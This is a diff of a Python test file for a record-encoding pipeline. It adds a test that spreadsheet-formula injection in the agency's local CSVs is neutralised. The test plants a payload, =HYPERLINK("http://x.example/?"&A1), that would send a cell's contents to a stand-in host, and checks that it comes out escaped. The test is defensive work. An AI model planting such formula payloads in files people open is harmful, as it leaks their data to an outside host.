@@ -212,7 +212,7 @@ def test_an_encoded_drop_is_refused_by_a_clear_store(world, tmp_path):
 
 def test_the_encoders_address_signature_is_the_households_one(world):
     from graphs.dwellings import address_signature
-    from ingest.encode import _address_signature
+    from ingest.encode_rows import _address_signature
 
     lookup = pl.read_csv(world["local"] / "lookup.csv", infer_schema=False)
     frame = lookup.select(norm_address(pl.col("address")).alias("address"),
@@ -250,3 +250,24 @@ def test_each_encoded_row_carries_its_own_records_encodings(world, tmp_path):
         if row["nf"]:
             assert row["tok_forename"] == keys.tokens["tok_forename"].token(row["nf"]), row["record_id"]
         assert row["tok_dob"] == keys.tokens["tok_dob"].token(row["dob"][:10]), row["record_id"]
+
+
+def test_the_agencys_local_csvs_run_no_spreadsheet_formula(world, tmp_path):
+    """lookup.csv and rejected.csv are opened by the agency's staff: a cell an attacker wrote as
+    a formula is neutralised (OWASP), as the hub's own CSVs are."""
+    drop = tmp_path / "clear"
+    drop.mkdir()
+    police = pl.read_csv(world["clear"] / "police.csv", infer_schema=False)
+    police = police.with_columns(
+        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit('=HYPERLINK("http://x.example/?"&A1)'))
+        .otherwise(pl.col("surname")).alias("surname"),
+        pl.when(pl.int_range(pl.len()) == 1).then(pl.lit("@SUM(1+1)")).otherwise(pl.col("record_id")).alias("record_id"),
+        pl.when(pl.int_range(pl.len()) == 1).then(pl.lit("not a date")).otherwise(pl.col("event_date")).alias("event_date"))
+    police.write_csv(drop / "police.csv")
+    encode_drop(drop, tmp_path / "out", world["key"])
+    lookup = pl.read_csv(tmp_path / "out.local" / "lookup.csv", infer_schema=False)
+    rejected = pl.read_csv(tmp_path / "out.local" / "rejected.csv", infer_schema=False)
+    assert lookup["surname"][0] == '\'=HYPERLINK("http://x.example/?"&A1)'
+    assert "'@SUM(1+1)" in rejected["record_id"].to_list()
+    for frame in (lookup, rejected):
+        assert not frame.select(pl.any_horizontal(pl.all().fill_null("").str.contains(r"^[=+\-@\t\r]")).any()).item()
